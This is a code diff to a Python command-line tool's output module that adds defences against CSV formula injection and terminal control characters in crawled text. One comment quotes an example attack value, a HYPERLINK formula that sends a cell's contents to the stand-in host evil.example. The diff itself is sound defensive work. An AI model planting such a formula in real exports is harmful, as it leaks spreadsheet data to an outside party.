@@ -10,6 +10,24 @@ from typing import Any, Iterable, Sequence
 import click
 
 
+# A cell starting with one of these is a formula to Excel and LibreOffice (CSV injection):
+# a crawled title such as `=HYPERLINK("http://evil.example/?"&A1, "Read")` would run when an
+# analyst opens the export.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def spreadsheet_text(value: Any) -> Any:
+    """``value``, with a leading ``'`` when it is text a spreadsheet would take for a formula
+    (a spreadsheet shows the text as is and hides the quote); numbers such as -3 unchanged."""
+    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
+        return value
+    try:
+        float(value)
+        return value
+    except ValueError:
+        return "'" + value
+
+
 def _cell(value: Any) -> str:
     if value is None:
         return ""
@@ -19,7 +37,17 @@ def _cell(value: Any) -> str:
         return ",".join(str(v) for v in value)
     if isinstance(value, float):
         return f"{value:.3g}"
-    return str(value).replace("\n", " ")
+    return printable(str(value).replace("\n", " "))
+
+
+# Control characters a terminal would obey (ESC, CSI...): tables show stored text, which came
+# from crawled pages, possibly before the crawler dropped them.
+_TERMINAL_CONTROLS = dict.fromkeys([*range(0x20), 0x7F, *range(0x80, 0xA0)], "")
+
+
+def printable(text: str) -> str:
+    """``text`` without control characters (line breaks included), fit for one terminal line."""
+    return text.translate(_TERMINAL_CONTROLS)
 
 
 def table(rows: Iterable[dict[str, Any]], columns: Sequence[str], *, max_width: int = 60) -> str:
@@ -45,8 +73,9 @@ def echo_csv(rows: Iterable[dict[str, Any]], columns: Sequence[str]) -> None:
                             lineterminator="\n")
     writer.writeheader()
     for row in rows:
-        writer.writerow({c: _cell(row.get(c)) if isinstance(row.get(c), (list, tuple))
-                         else row.get(c) for c in columns})
+        writer.writerow({c: spreadsheet_text(_cell(row.get(c))
+                                             if isinstance(row.get(c), (list, tuple))
+                                             else row.get(c)) for c in columns})
 
 
 def echo_rows(rows: list[dict[str, Any]], columns: Sequence[str], fmt: str) -> None:
